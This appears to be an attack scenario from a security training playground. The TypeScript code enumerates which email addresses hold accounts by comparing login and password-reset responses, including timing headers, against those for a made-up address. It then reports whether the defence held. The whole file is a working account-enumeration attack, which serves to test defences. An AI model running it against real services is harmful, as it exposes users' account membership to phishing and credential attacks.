import type { Attack, AttackProgress } from '../../../runtime/attack/attack.ts';
import type { HttpResponse } from '../../../runtime/playground.ts';

/** Addresses from somewhere else, of which the attacker wants to know who is a customer here. */
const addresses = [
  'charles@babbage.example',
  'ada@lovelace.example',
  'tony@hoare.example',
  'alan@kay.example',
  'grace@hopper.example',
];

/** What can be told apart from outside: the status, the body, and how long it took. */
function looksLike({ status, body, headers }: HttpResponse): string {
  const work = headers.find(([name]) => name.toLowerCase() === 'x-work')?.[1] ?? '';
  return `${status} ${body} ${work}`;
}

/** Compares the answer for each address with the answer for one that cannot exist. */
const attack: Attack = async function* (send) {
  const nobody = `nobody-${Math.random().toString(36).slice(2)}@nowhere.example`;
  const found: string[] = [];
  let requests = 0;
  const progress = (step: string): AttackProgress => {
    const stolen = found.join(' · ');
    return { requests, stolen, length: stolen.length, step };
  };
  const ask = async (path: string, body: Readonly<Record<string, string>>) => {
    requests += 1;
    const headers = { 'content-type': 'application/json' };
    return looksLike(await send({ method: 'POST', path, headers, body: JSON.stringify(body) }));
  };
  const login = (email: string) => ask('/api/login', { email, password: 'a guess' });
  const reset = (email: string) => ask('/api/password-resets', { email });

  // The first may do what is done only once.
  await login(nobody);
  const nobodysLogin = await login(nobody);
  const nobodysReset = await reset(nobody);
  for (const email of addresses) {
    const isKnown = (await login(email)) !== nobodysLogin || (await reset(email)) !== nobodysReset;
    if (isKnown) found.push(email);
    yield progress(`Asked for ${email}`);
  }
  return found.length > 0
    ? { ...progress(`Without a password it knows who has an account`), outcome: 'succeeded' }
    : { ...progress('Every address looks like one that does not exist'), outcome: 'repelled' };
};

export default attack;
